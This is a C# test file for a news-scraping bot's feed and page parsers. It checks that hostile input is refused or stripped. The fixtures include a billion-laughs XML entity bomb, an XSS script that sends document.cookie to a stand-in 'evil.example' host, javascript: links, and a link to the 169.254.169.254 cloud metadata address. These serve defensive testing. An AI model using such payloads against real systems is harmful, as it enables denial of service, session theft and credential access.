using System.Diagnostics;
using System.Text;
using NewsBot.Extraction;

namespace NewsBot.Tests.Extraction;

/// <summary>Documents written to hurt: entity bombs, broken encodings, endless titles and scripts end as a clear refusal or safe text.</summary>
public sealed class HostileInputTests
{
    private static readonly Uri PageUrl = new("https://berita.example.id/berita/1");

    private const string Prose =
        "<p>Pemerintah kabupaten menyalurkan bantuan logistik kepada warga terdampak banjir di tiga kecamatan.</p>" +
        "<p>Kepala dinas mengatakan paket sembako telah dikirim ke dua belas desa sejak pagi hari.</p>";

    [Fact]
    public void Billion_laughs_is_refused_at_once_without_expanding_anything()
    {
        var levels = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">"));
        var xml = $"<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY lol0 \"lol\">{levels}]><rss version=\"2.0\"><channel><title>&lol9;</title></channel></rss>";
        var clock = Stopwatch.StartNew();

        var error = Assert.Throws<FeedFormatException>(() => new FeedParser().Parse(Encoding.UTF8.GetBytes(xml), null, PageUrl));

        Assert.Contains("DTD", error.Message, StringComparison.Ordinal);
        Assert.InRange(clock.Elapsed, TimeSpan.Zero, TimeSpan.FromSeconds(2));
    }

    [Fact]
    public void A_page_of_invalid_utf8_is_read_as_windows_1252_rather_than_replacement_characters()
    {
        var bytes = Encoding.Latin1.GetBytes($"<html><head><meta charset=\"utf-8\"><title>Caf\u00e9 Kudus Dibuka</title></head><body><h1>Caf\u00e9 Kudus Dibuka</h1>{Prose}</body></html>");

        var html = FeedDecoder.DecodePage(bytes, "text/html; charset=utf-8");
        var page = new ArticlePageExtractor().Extract(html, PageUrl);

        Assert.Equal("Caf\u00e9 Kudus Dibuka", page.Title);
        Assert.DoesNotContain('\uFFFD', html);
    }

    [Fact]
    public void A_page_in_a_legacy_charset_is_decoded_by_its_meta_tag()
    {
        var bytes = Encoding.Latin1.GetBytes($"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"></head><body>Caf\u00e9 \u0093kutip\u0094</body></html>");

        Assert.Contains("Caf\u00e9 \u201ckutip\u201d", FeedDecoder.DecodePage(bytes, "text/html"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_ten_thousand_character_page_title_is_capped()
    {
        var title = string.Join(' ', Enumerable.Repeat("banjir", 10_000 / 7 + 1));
        var html = $"<html><head><meta property=\"og:title\" content=\"{title}\"></head><body><h1>{title}</h1>{Prose}</body></html>";

        var page = new ArticlePageExtractor().Extract(html, PageUrl);

        Assert.InRange(page.Title!.Length, 1, FeedXml.MaxTitleLength);
    }

    [Fact]
    public void Scripts_and_javascript_links_in_a_page_never_reach_the_article()
    {
        var html = "<html><head><meta property=\"og:image\" content=\"javascript:alert(1)\"><title>Banjir di Demak</title></head><body>" +
            $"<h1>Banjir di Demak</h1><div class=\"isi\"><script>document.location='https://evil.example/'+document.cookie</script>{Prose}" +
            "<p><a href=\"javascript:alert(1)\">klik di sini</a> <img src=\"javascript:alert(2)\" onerror=\"alert(3)\"></p></div></body></html>";

        var page = new ArticlePageExtractor().Extract(html, PageUrl);

        Assert.DoesNotContain("document", page.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript", page.Text, StringComparison.Ordinal);
        Assert.Null(page.ImageUrl);
        Assert.Contains("bantuan logistik", page.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_listing_with_javascript_and_foreign_links_offers_none_of_them()
    {
        var html = "<html><body><a href=\"javascript:fetch('/admin')\">Berita penting hari ini untuk semua warga</a>" +
            "<a href=\"http://169.254.169.254/latest/meta-data/berita-rahasia-sekali\">Berita rahasia sekali dari server</a>" +
            "<a href=\"data:text/html,berita-palsu-sekali-ini\">Berita palsu sekali yang tidak benar</a></body></html>";

        Assert.Empty(new ListingLinkFinder().Find(html, new Uri("https://berita.example.id/")));
    }
}
